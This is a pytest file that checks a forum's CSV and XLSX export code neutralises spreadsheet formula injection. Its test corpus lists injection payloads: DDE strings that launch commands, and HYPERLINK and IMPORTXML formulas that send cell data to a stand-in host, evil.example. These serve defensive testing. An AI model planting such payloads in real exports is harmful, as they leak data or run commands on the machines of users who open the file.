"""Formula injection: the corpus of dangerous cell starts, and CSV/XLSX written through them."""
import csv
import io

import pytest
from openpyxl import load_workbook

from forum.exports.cells import safe_cell
from forum.exports.csvstream import BOM, csv_chunks
from forum.exports.xlsx import CELL_LIMIT, XlsxBuilder

# From OWASP's CSV injection page and spreadsheet advisories, plus full-width forms.
FORMULA_CORPUS = [
    "=1+1",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"klik\")",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "+cmd|' /C notepad'!'A1'",
    "-2+3",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\", A2), \"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")",
    "\x00=1+1",
]


@pytest.mark.parametrize("text", FORMULA_CORPUS)
def test_formula_starts_are_neutralised(text):
    cell = safe_cell(text)
    assert cell.startswith("'")
    assert "\x00" not in cell


@pytest.mark.parametrize("text", ["Setuju", "Jalan 1=2", "a-b", "email@contoh", "", "  =spasi", "‏نص"])
def test_ordinary_text_is_unchanged(text):
    assert safe_cell(text) == text


def test_numbers_stay_numbers_and_none_stays_empty():
    assert safe_cell(-5) == -5
    assert safe_cell(2.5) == 2.5
    assert safe_cell(True) is True
    assert safe_cell(None) is None
    assert safe_cell("-5") == "'-5"


def test_control_characters_are_dropped_but_line_breaks_kept():
    assert safe_cell("a\x00b\x07c\nd\te") == "abc\nd\te"


def test_csv_starts_with_a_bom_and_neutralises_every_cell():
    rows = [[text, 1] for text in FORMULA_CORPUS] + [["x" * 10000, 2]]
    text = "".join(csv_chunks(["teks", "angka"], rows))
    assert text.startswith(BOM)
    parsed = list(csv.reader(io.StringIO(text[len(BOM):])))
    assert parsed[0] == ["teks", "angka"]
    assert len(parsed) == len(rows) + 1
    for row in parsed[1:-1]:
        assert row[0].startswith("'")
    assert parsed[-1][0] == "x" * 10000


def test_csv_streams_in_chunks():
    chunks = list(csv_chunks(["n"], ([i] for i in range(1200))))
    assert len(chunks) == 3


def test_xlsx_holds_no_formula_and_has_frozen_filtered_headers():
    builder = XlsxBuilder()
    builder.add_sheet("Komentar", ["teks", "angka"], [[text, 1] for text in FORMULA_CORPUS], widths={0: 60})
    builder.add_sheet("Panjang", ["teks"], [["y" * (CELL_LIMIT + 10)]])
    path = builder.save()
    workbook = load_workbook(path)
    sheet = workbook["Komentar"]
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:B{len(FORMULA_CORPUS) + 1}"
    assert sheet.column_dimensions["A"].width == 60
    for row in workbook.worksheets[0].iter_rows(min_row=2):
        assert row[0].data_type == "s" and row[0].value.startswith("'")
        assert row[1].data_type == "n"
    assert len(workbook["Panjang"]["A2"].value) == CELL_LIMIT
    for worksheet in workbook.worksheets:
        for row in worksheet.iter_rows():
            assert all(cell.data_type != "f" for cell in row)
